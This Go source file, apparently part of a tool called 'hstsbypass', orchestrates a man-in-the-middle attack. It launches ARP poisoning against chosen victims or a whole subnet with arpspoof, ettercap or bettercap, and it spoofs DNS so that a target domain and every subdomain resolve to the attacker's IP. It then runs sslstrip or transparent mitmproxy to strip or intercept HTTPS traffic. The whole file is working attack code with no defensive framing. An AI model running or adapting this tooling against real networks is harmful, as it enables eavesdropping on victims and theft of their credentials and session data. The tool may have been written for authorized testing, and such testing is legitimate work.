package engine

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/vulnverified/hstsbypass/internal/supervisor"
)

const dnsHostsFile = "dnsspoof.hosts"

// launchStep is one tool launch in session order, tagged with the bypass
// method name it reports under.
type launchStep struct {
	method string
	spec   supervisor.ToolSpec
}

func (s *Session) arpSteps() []launchStep {
	switch s.cfg.Mode.ARPTool {
	case ARPToolEttercap:
		return []launchStep{s.ettercapARPStep()}
	case ARPToolBettercap:
		return []launchStep{s.bettercapARPStep()}
	}

	c := s.cfg
	gw := c.Gateway.String()
	if c.AllTargets {
		return []launchStep{{
			method: "arp_spoof:all",
			spec: supervisor.ToolSpec{
				Name:          "arpspoof",
				Path:          c.Tools.ARPSpoof,
				Args:          []string{"-i", c.Interface, gw},
				AlwaysRunning: true,
				StartupWait:   c.StartupWait,
			},
		}}
	}

	steps := make([]launchStep, 0, len(c.Victims))
	for _, v := range c.Victims {
		steps = append(steps, launchStep{
			method: "arp_spoof:" + v.String(),
			spec: supervisor.ToolSpec{
				Name:          "arpspoof",
				Path:          c.Tools.ARPSpoof,
				Args:          []string{"-i", c.Interface, "-t", v.String(), "-r", gw},
				AlwaysRunning: true,
				StartupWait:   c.StartupWait,
			},
		})
	}
	return steps
}

// arpMethod names the single ARP result row of the ettercap and bettercap
// backends, which poison every victim from one process.
func (c *Config) arpMethod() string {
	if c.AllTargets {
		return "arp_spoof:all"
	}
	return "arp_spoof:" + joinIPs(c.Victims, ",")
}

func (s *Session) ettercapARPStep() launchStep {
	c := s.cfg
	victims := "///"
	if !c.AllTargets {
		victims = "/" + joinIPs(c.Victims, ";") + "//"
	}
	return launchStep{
		method: c.arpMethod(),
		spec: supervisor.ToolSpec{
			Name:          "ettercap",
			Path:          c.Tools.Ettercap,
			Args:          []string{"-T", "-q", "-i", c.Interface, "-M", "arp:remote", "/" + c.Gateway.String() + "//", victims},
			LogFile:       filepath.Join(c.WorkDir, "ettercap.log"),
			AlwaysRunning: true,
			StartupWait:   c.StartupWait,
		},
	}
}

func (s *Session) bettercapARPStep() launchStep {
	c := s.cfg
	// An unset target list makes bettercap spoof the whole subnet.
	var cmds []string
	if !c.AllTargets {
		cmds = append(cmds, "set arp.spoof.targets "+joinIPs(c.Victims, ","))
	}
	cmds = append(cmds, "arp.spoof on")
	return launchStep{
		method: c.arpMethod(),
		spec: supervisor.ToolSpec{
			Name:          "bettercap",
			Path:          c.Tools.Bettercap,
			Args:          []string{"-iface", c.Interface, "-no-colors", "-eval", strings.Join(cmds, "; ")},
			LogFile:       filepath.Join(c.WorkDir, "bettercap-arp.log"),
			AlwaysRunning: true,
			StartupWait:   c.StartupWait,
		},
	}
}

// dnsStep returns the DNS spoofing launch step. For dnsspoof it writes the
// hosts file first, registering it as a session artifact before the write.
func (s *Session) dnsStep() (launchStep, error) {
	c := s.cfg
	if c.Mode.DNSTool == DNSToolBettercap {
		domain := c.Target.Domain
		cmds := []string{
			"set dns.spoof.domains " + domain + ",*." + domain,
			"set dns.spoof.address " + c.AttackerIP.String(),
			"dns.spoof on",
		}
		return launchStep{
			method: "dns_spoof",
			spec: supervisor.ToolSpec{
				Name:          "bettercap",
				Path:          c.Tools.Bettercap,
				Args:          []string{"-iface", c.Interface, "-no-colors", "-eval", strings.Join(cmds, "; ")},
				LogFile:       filepath.Join(c.WorkDir, "bettercap-dns.log"),
				AlwaysRunning: true,
				StartupWait:   c.StartupWait,
			},
		}, nil
	}

	path := filepath.Join(c.WorkDir, dnsHostsFile)
	s.artifacts = append(s.artifacts, path)
	if err := os.WriteFile(path, dnsHosts(c.Target.Domain, c.AttackerIP), 0o600); err != nil {
		return launchStep{}, fmt.Errorf("write dnsspoof hosts: %w", err)
	}
	return launchStep{
		method: "dns_spoof",
		spec: supervisor.ToolSpec{
			Name:          "dnsspoof",
			Path:          c.Tools.DNSSpoof,
			Args:          []string{"-i", c.Interface, "-f", path},
			AlwaysRunning: true,
			StartupWait:   c.StartupWait,
		},
	}, nil
}

func (s *Session) interceptStep() (launchStep, bool) {
	c := s.cfg
	switch c.Mode.Intercept {
	case InterceptSSLStrip:
		return launchStep{
			method: "sslstrip",
			spec: supervisor.ToolSpec{
				Name:          "sslstrip",
				Path:          c.Tools.SSLStrip,
				Args:          []string{"-l", strconv.Itoa(c.SSLStripPort), "-w", filepath.Join(c.WorkDir, "sslstrip.log")},
				LogFile:       filepath.Join(c.WorkDir, "sslstrip.out"),
				AlwaysRunning: true,
				StartupWait:   c.StartupWait,
			},
		}, true
	case InterceptMITMProxy:
		return launchStep{
			method: "mitmproxy",
			spec: supervisor.ToolSpec{
				Name:          "mitmdump",
				Path:          c.Tools.MITMDump,
				Args:          []string{"--mode", "transparent", "--showhost", "--listen-port", strconv.Itoa(c.MITMProxyPort)},
				LogFile:       filepath.Join(c.WorkDir, "mitmdump.log"),
				AlwaysRunning: true,
				StartupWait:   c.StartupWait,
			},
		}, true
	}
	return launchStep{}, false
}

// plannedMethods lists every result row a session will report, in launch
// order.
func (s *Session) plannedMethods() []string {
	var methods []string
	if s.cfg.Mode.ARP {
		for _, step := range s.arpSteps() {
			methods = append(methods, step.method)
		}
	}
	if s.cfg.Mode.DNS {
		methods = append(methods, "dns_spoof")
	}
	if step, ok := s.interceptStep(); ok {
		methods = append(methods, step.method)
	}
	return methods
}

func joinIPs(ips []net.IP, sep string) string {
	parts := make([]string, len(ips))
	for i, ip := range ips {
		parts[i] = ip.String()
	}
	return strings.Join(parts, sep)
}

// dnsHosts renders a dnsspoof hosts file answering the domain and all of its
// subdomains with ip.
func dnsHosts(domain string, ip net.IP) []byte {
	return []byte(fmt.Sprintf("%s\t%s\n%s\t*.%s\n", ip, domain, ip, domain))
}
